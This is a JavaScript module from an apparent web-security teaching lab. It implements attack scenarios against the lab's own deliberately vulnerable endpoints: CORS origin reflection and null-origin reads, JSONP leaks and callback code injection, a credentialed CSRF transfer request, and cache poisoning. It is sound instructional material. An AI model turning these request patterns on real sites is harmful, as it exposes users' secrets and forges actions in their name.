// The security lab's behaviour beside its data (security-catalogue.js): each scenario's attack,
// run in the attacker's page, and what the victim's page looks at after it.
import { apiUrl, getJson } from '../core/api.js';
import { loadJsonp, sendFetch, sendXhr } from '../core/transport.js';
import { couldRead } from '../model/verdict.js';

const parse = (text) => {
  try {
    return JSON.parse(text);
  } catch {
    return null;
  }
};

// A URL of the API for one run; /security/* also gets the lab key (config.security_query),
// without which those deliberately vulnerable endpoints refuse to act.
export const securityUrl = (ctx, path, params = {}) =>
  apiUrl(ctx.api, path, { ...params, run: ctx.run, ...(path.startsWith('/security/') ? ctx.securityQuery : {}) });

// Attacks run in the attacker's page and resolve with what the attacker got.

async function readSecret(ctx, variant) {
  const result = await sendXhr({ method: 'GET', url: securityUrl(ctx, `/security/secret/${variant.check}`), withCredentials: true });
  const body = couldRead(result) ? parse(result.responseText) : null;
  return { readable: couldRead(result), partnerData: body?.partner_data ?? null, secret: body?.secret ?? null };
}

// From a sandboxed iframe (no allow-same-origin) every request says Origin: null.
function readSecretFromSandbox(ctx, variant) {
  return new Promise((resolve) => {
    const target = securityUrl(ctx, `/security/secret/${variant.check}`);
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    frame.hidden = true;
    frame.src = `/static/sandbox.html#${encodeURIComponent(target)}`;
    window.addEventListener('message', function answer(event) {
      if (event.source !== frame.contentWindow) return;
      window.removeEventListener('message', answer);
      frame.remove();
      resolve(event.data);
    });
    document.body.append(frame);
  });
}

async function jsonpLeak(ctx, variant) {
  const callback = `leak_${ctx.run.replace(/-/g, '_')}`;
  const result = await loadJsonp(securityUrl(ctx, variant.path, { callback: `labJsonp.${callback}` }), callback);
  const body = parse(result.responseText);
  return { readable: couldRead(result), secret: body?.secret ?? null };
}

// Puts code of the attacker's choice in the callback. The API echoes it into a script served as
// JavaScript, so the code runs in whichever page includes that script: here the attacker's own
// page, never the API's origin. It reports where it ran.
async function injectCode(ctx, variant) {
  const callback = `inject_${ctx.run.replace(/-/g, '_')}`;
  const payload = `labJsonp.${callback}({ injectedOrigin: location.origin });void`;
  const result = await loadJsonp(securityUrl(ctx, variant.path, { callback: payload }), callback);
  return { injectedOrigin: parse(result.responseText)?.injectedOrigin ?? null, apiOrigin: ctx.api };
}

// The classic CSRF: a simple, credentialed, fire-and-forget POST. The attacker needs no answer.
async function forgeTransfer(ctx, variant) {
  const result = await sendFetch({
    method: 'POST',
    url: securityUrl(ctx, `/security/transfer/${variant.defence}`),
    headers: { 'Content-Type': 'text/plain' },
    body: 'amount=1000',
    withCredentials: true,
    mode: 'no-cors',
  });
  return { sent: result.outcome === 'resolved' };
}

const cacheUrl = (ctx, variant) => securityUrl(ctx, `/security/cache/${variant.mode}/data`, { key: ctx.run });

// The attacker asks first, so the shared cache stores the answer made for the attacker's origin.
async function poisonCache(ctx, variant) {
  return { readable: couldRead(await sendXhr({ method: 'GET', url: cacheUrl(ctx, variant) })) };
}

// The victim's side: what the attack did.

async function victimReadsCache(ctx, variant) {
  const result = await sendXhr({ method: 'GET', url: cacheUrl(ctx, variant) });
  return { victimCanRead: couldRead(result), cache: result.responseHeaders['x-lab-cache'] ?? null };
}

async function transfersMade(ctx) {
  return { transfers: (await getJson(securityUrl(ctx, '/security/transfers'))).transfers.length };
}

// Scenario id -> its attack (ctx, variant) and, where the victim must look, victimAfter.
const BEHAVIOUR = {
  'reflect-origin': { attack: readSecret },
  'null-origin': { attack: readSecretFromSandbox },
  'origin-checks': { attack: readSecret },
  'jsonp-leak': { attack: jsonpLeak },
  'jsonp-callback': { attack: injectCode },
  csrf: { attack: forgeTransfer, victimAfter: transfersMade },
  'cache-vary': { attack: poisonCache, victimAfter: victimReadsCache },
};

// ctx: { api, run, securityQuery }.
export const attack = (scenario, ctx, variant) => BEHAVIOUR[scenario.id].attack(ctx, variant);

export async function victimAfter(scenario, ctx, variant) {
  const after = BEHAVIOUR[scenario.id].victimAfter;
  return after ? after(ctx, variant) : {};
}
